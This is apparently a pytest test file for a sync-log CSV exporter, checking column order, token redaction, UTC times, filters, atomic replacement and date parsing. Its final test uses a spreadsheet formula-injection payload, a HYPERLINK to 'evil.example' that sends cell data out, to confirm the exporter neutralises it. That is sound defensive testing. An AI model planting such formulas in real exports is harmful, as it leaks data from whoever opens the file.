"""Sync-log CSV export: documented columns in order, redacted compact JSON, UTC times, filters, atomic
replace."""

from __future__ import annotations

import csv
import json
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import Uuid, bindparam, text

from connectors.synclog_export import EXPORT_COLUMNS, export_sync_logs, parse_since
from sierra_core.db.models import IntegrationSyncLog
from sierra_core.errors import ConfigError, SierraError
from sierra_core.redact import REDACTED, redact
from tests import factories

T0 = datetime(2026, 11, 20, 9, 30, 0, 123456, tzinfo=UTC)
BEARER = "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"


def _log(integration_id, company_id, started_at, **kw):
    return IntegrationSyncLog(
        id=kw.pop("id", uuid.uuid4()),
        integration_id=integration_id,
        company_id=company_id,
        sync_type=kw.pop("sync_type", "invoice"),
        direction=kw.pop("direction", "push"),
        trigger=kw.pop("trigger", "manual"),
        entity_type=kw.pop("entity_type", "invoice"),
        status=kw.pop("status", "success"),
        started_at=started_at,
        **kw,
    )


@pytest.fixture
def world(sessions):
    """Two companies; company A has four attempts (inserted out of order), B has one."""
    with sessions.begin() as s:
        a = factories.company(s, "Ridge Framing")
        b = factories.company(s, "Other Co")
        ia = factories.integration(s, a.id, connection_status="connected", is_active=True)
        ib = factories.integration(s, b.id)
        entity = uuid.uuid4()
        rows = [
            _log(
                ia.id,
                a.id,
                T0 + timedelta(minutes=2),
                status="failed",
                entity_id=entity,
                external_entity_id="660",
                completed_at=T0 + timedelta(minutes=2, milliseconds=850),
                duration_ms=850,
                error_code="6000",
                error_message=f"QuickBooks refused the request sent with {BEARER}",
                error_details={"retryable": False, "refresh_token": "AB11726930000abcdefghijklmnop"},
                # Stored unredacted on purpose: the export must redact again.
                request_payload={"Invoice": {"DocNumber": "1001", "Note": "Müller"}, "access_token": "tok-1"},
                attempt_number=2,
                retry_count=1,
            ),
            _log(ia.id, a.id, T0, request_payload={"Customer": {"DisplayName": "Amy's"}}),
            _log(
                ia.id,
                a.id,
                T0 + timedelta(minutes=1),
                entity_type="customer",
                status="retrying",
                next_retry_at=T0 + timedelta(minutes=1, seconds=4),
            ),
            _log(ia.id, a.id, T0 + timedelta(days=3), entity_type="payment", status="success"),
            _log(ib.id, b.id, T0 + timedelta(minutes=5)),
        ]
        s.add_all(rows)
        s.flush()
        failed_id = rows[0].id
    return {"a": a.id, "b": b.id, "integration": ia.id, "failed_id": failed_id, "entity": entity}


def _read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        return header, [dict(zip(header, row, strict=True)) for row in reader]


def test_rows_in_csv_out_with_documented_columns_and_redacted_payloads(engine, world, tmp_path):
    out = tmp_path / "logs.csv"
    count = export_sync_logs(engine, world["a"], out)
    header, rows = _read(out)
    assert count == 4
    assert header == list(EXPORT_COLUMNS)
    assert [r["started_at"] for r in rows] == [
        "2026-11-20T09:30:00.123456+00:00",
        "2026-11-20T09:31:00.123456+00:00",
        "2026-11-20T09:32:00.123456+00:00",
        "2026-11-23T09:30:00.123456+00:00",
    ]
    assert {r["company_id"] for r in rows} == {str(world["a"])}
    failed = rows[2]
    assert failed["id"] == str(world["failed_id"])
    assert (failed["status"], failed["error_code"], failed["duration_ms"]) == ("failed", "6000", "850")
    assert (failed["entity_id"], failed["external_entity_id"]) == (str(world["entity"]), "660")
    assert (failed["attempt_number"], failed["retry_count"], failed["max_retries"]) == ("2", "1", "3")
    assert failed["completed_at"] == "2026-11-20T09:32:00.973456+00:00"
    assert datetime.fromisoformat(failed["created_at"]).utcoffset() == timedelta(0)
    # Compact JSON, secrets replaced, text intact.
    assert json.loads(failed["request_payload"]) == {
        "Invoice": {"DocNumber": "1001", "Note": "Müller"},
        "access_token": REDACTED,
    }
    assert " " not in failed["request_payload"].replace("DocNumber", "")
    assert json.loads(failed["error_details"]) == {"retryable": False, "refresh_token": REDACTED}
    assert BEARER not in out.read_text(encoding="utf-8")
    assert failed["error_message"].startswith("QuickBooks refused the request sent with ")
    # NULLs are empty cells; NULL payload is an empty cell, not "null".
    assert (failed["response_payload"], failed["flow_run_id"], failed["next_retry_at"]) == ("", "", "")
    assert rows[1]["next_retry_at"] == "2026-11-20T09:31:04.123456+00:00"


def test_payload_numbers_keep_their_exact_digits(engine, db, world, tmp_path):
    cast_to = "CAST(:doc AS JSONB)" if db.dialect == "postgresql" else ":doc"
    with engine.begin() as conn:
        conn.execute(
            text(f"UPDATE integration_sync_logs SET response_payload = {cast_to} WHERE id = :id").bindparams(  # noqa: S608
                bindparam("id", type_=Uuid)
            ),
            {
                "doc": '{"Invoice": {"TotalAmt": 119.60, "Balance": 0.10, "Id": "660"}}',
                "id": world["failed_id"],
            },
        )
    out = tmp_path / "exact.csv"
    export_sync_logs(engine, world["a"], out, statuses=["failed"])
    _, rows = _read(out)
    cell = rows[0]["response_payload"]
    assert "119.60" in cell and "0.10" in cell  # PostgreSQL reorders JSONB keys; the digits stay
    assert json.loads(cell, parse_float=Decimal) == {
        "Invoice": {"TotalAmt": Decimal("119.60"), "Balance": Decimal("0.10"), "Id": "660"}
    }


def test_filters_since_status_and_entity_type(engine, world, tmp_path):
    out = tmp_path / "f.csv"
    assert export_sync_logs(engine, world["a"], out, since=T0 + timedelta(minutes=1)) == 3
    assert export_sync_logs(engine, world["a"], out, statuses=["failed", "retrying"]) == 2
    _, rows = _read(out)
    assert [r["status"] for r in rows] == ["retrying", "failed"]
    assert export_sync_logs(engine, world["a"], out, entity_types=["payment", "customer"]) == 2
    assert (
        export_sync_logs(
            engine,
            world["a"],
            out,
            since=T0 + timedelta(days=1),
            statuses=["success"],
            entity_types=["payment"],
        )
        == 1
    )
    assert export_sync_logs(engine, world["b"], out) == 1
    assert export_sync_logs(engine, uuid.uuid4(), out) == 0
    header, rows = _read(out)
    assert (header, rows) == (list(EXPORT_COLUMNS), [])


def test_existing_file_is_replaced_atomically_and_a_failed_export_leaves_it_untouched(
    engine, world, tmp_path, monkeypatch
):
    out = tmp_path / "logs.csv"
    out.write_text("previous export\n", encoding="utf-8")
    out.chmod(0o640)
    assert export_sync_logs(engine, world["a"], out) == 4
    assert out.read_text(encoding="utf-8").startswith("id,company_id,")
    assert out.stat().st_mode & 0o777 == 0o640
    before = out.read_bytes()

    calls = {"n": 0}

    def failing_redact(value):
        calls["n"] += 1
        if calls["n"] == 3:
            raise RuntimeError("disk on fire")
        return redact(value)

    monkeypatch.setattr("connectors.synclog_export.redact", failing_redact)
    with pytest.raises(RuntimeError, match="disk on fire"):
        export_sync_logs(engine, world["a"], out, chunk_size=1)
    assert out.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["logs.csv"]


def test_unwritable_destinations_and_bad_filters_are_one_clear_error(engine, world, tmp_path):
    with pytest.raises(SierraError, match="does not exist"):
        export_sync_logs(engine, world["a"], tmp_path / "missing" / "x.csv")
    with pytest.raises(SierraError, match="is a directory"):
        export_sync_logs(engine, world["a"], tmp_path)
    with pytest.raises(ConfigError, match="unknown sync-log status 'done'"):
        export_sync_logs(engine, world["a"], tmp_path / "x.csv", statuses=["done"])
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2026-11-01", datetime(2026, 11, 1, tzinfo=UTC)),
        ("2026-11-01T08:00:00", datetime(2026, 11, 1, 8, tzinfo=UTC)),
        ("2026-11-01T08:00:00Z", datetime(2026, 11, 1, 8, tzinfo=UTC)),
        ("2026-11-01T08:00:00-08:00", datetime(2026, 11, 1, 16, tzinfo=UTC)),
    ],
)
def test_since_accepts_iso_dates_and_times_as_utc(value, expected):
    parsed = parse_since(value)
    assert parsed == expected
    assert parsed.tzinfo is UTC


@pytest.mark.parametrize("value", ["yesterday", "2026-13-01", "11/01/2026", ""])
def test_since_rejects_anything_else_with_an_example(value):
    with pytest.raises(ConfigError, match="2026-11-01"):
        parse_since(value)


def test_public_names_are_exported():
    import connectors.synclog_export as module

    assert all(hasattr(module, name) for name in module.__all__)
    assert {"export_sync_logs", "iter_sync_log_rows", "parse_since", "EXPORT_COLUMNS"} <= set(module.__all__)


def test_formula_like_text_is_exported_as_text(engine, sessions, world, tmp_path):
    """An error message or id from outside that a spreadsheet would run as a formula gets a leading
    apostrophe; numbers, negative ones included, are left as they are."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with sessions.begin() as s:
        s.add(
            _log(
                world["integration"],
                world["a"],
                T0 + timedelta(days=5),
                status="failed",
                external_entity_id="-42",
                error_code="@SUM(1+1)",
                error_message=hostile,
            )
        )
    out = tmp_path / "logs.csv"
    export_sync_logs(engine, world["a"], out)
    row = _read(out)[1][-1]
    assert row["error_message"] == "'" + hostile
    assert row["error_code"] == "'@SUM(1+1)"
    assert row["external_entity_id"] == "-42"
